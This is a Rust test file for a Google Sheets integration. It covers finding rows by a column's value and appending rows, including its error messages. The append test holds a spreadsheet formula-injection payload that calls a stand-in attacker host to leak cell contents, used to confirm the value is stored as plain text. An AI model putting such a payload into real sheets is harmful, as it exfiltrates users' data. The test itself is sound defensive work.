//! Google Sheets: rows that are looked up and appended.

use offhook_providers::ApplicationSettings;
use offhook_testkit::fakes::sheets::{API_PATH, FakeSheets, SHEET, SPREADSHEET};
use serde_json::json;

use super::{application_of, call, granted, settings};

const COLUMNS: &[&str] = &["Name", "Phone", "Plan"];

#[tokio::test]
async fn rows_are_found_by_a_columns_value() {
    let mut rows = vec![
        COLUMNS,
        &["Zoe", "+5215512345678", "Pro"],
        &[],
        &["Max", "1"],
    ];
    rows.extend([&["Moe", "2", "Free"] as &[&str]; 7]);
    let fake = FakeSheets::start(&rows).await;
    let base = fake.upstream.base_url();
    let settings = ApplicationSettings {
        api_url: Some(format!("{base}{API_PATH}")),
        ..settings(&base)
    };
    let sheets = application_of("google_sheets", &settings);
    let grant = granted(&*sheets, &fake.authority).await;
    let find = async |column: Option<&str>, value: Option<&str>| {
        let asked = json!({"spreadsheet_id": SPREADSHEET, "column": column, "value": value});
        call(&*sheets, &grant, "find_rows", &asked).await
    };
    let zoe = json!({"Name": "Zoe", "Phone": "+5215512345678", "Plan": "Pro"});
    let expected = json!({"total": 1, "rows": [zoe]});
    assert_eq!(
        find(Some("phone "), Some("+5215512345678")).await,
        Ok(expected)
    );
    let moes = find(Some("Name"), Some("moe")).await.unwrap();
    assert_eq!(
        (&moes["total"], moes["rows"].as_array().unwrap().len()),
        (&json!(7), 5)
    );
    let none = json!({"total": 0, "rows": []});
    assert_eq!(find(Some("Name"), Some("Eve")).await, Ok(none));
    let first = find(None, None).await.unwrap();
    assert_eq!((&first["total"], &first["rows"][0]), (&json!(null), &zoe));
    assert_eq!(first["rows"][2], json!({"Name": "Max", "Phone": "1"}));
    let said = find(Some("Mail"), Some("x")).await.unwrap_err();
    let expected = "There is no column Mail: nothing was done. The columns are: Name, Phone, Plan.";
    assert_eq!(said, expected);
    let said = find(Some("Name"), None).await.unwrap_err();
    assert!(said.starts_with("Give both"), "{said}");
}

#[tokio::test]
async fn a_row_is_appended_by_its_columns_and_no_formula() {
    let fake = FakeSheets::start(&[COLUMNS]).await;
    let base = fake.upstream.base_url();
    let settings = ApplicationSettings {
        api_url: Some(format!("{base}{API_PATH}")),
        ..settings(&base)
    };
    let sheets = application_of("google_sheets", &settings);
    let grant = granted(&*sheets, &fake.authority).await;
    let append = async |values: serde_json::Value| {
        let asked = json!({"spreadsheet_id": SPREADSHEET, "sheet": SHEET, "values": values});
        call(&*sheets, &grant, "append_row", &asked).await
    };
    let formula = r#"=IMPORTDATA("https://evil.example/?"&A1)"#;
    let appended = append(json!({"plan": formula, "Name": "Zoe"})).await;
    let expected = json!({"appended": true, "range": "Zoe's leads!A2"});
    assert_eq!(appended, Ok(expected));
    assert_eq!(fake.rows()[1], ["Zoe", "", formula]);
    let said = append(json!({"Mail": "zoe@example.com"}))
        .await
        .unwrap_err();
    assert!(
        said.starts_with("There is no column Mail: nothing was done."),
        "{said}"
    );
    assert_eq!(fake.rows().len(), 2);
}
